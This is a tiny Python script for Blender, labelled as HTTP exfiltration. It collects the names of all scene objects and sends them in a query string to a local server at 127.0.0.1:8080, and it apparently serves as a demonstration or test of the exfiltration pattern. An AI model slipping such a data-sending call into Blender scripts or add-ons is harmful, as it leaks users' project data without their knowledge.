# HTTP exfiltration of object names
import bpy
import urllib.request
names = ",".join(o.name for o in bpy.data.objects)
urllib.request.urlopen("http://127.0.0.1:8080/?d=" + names)
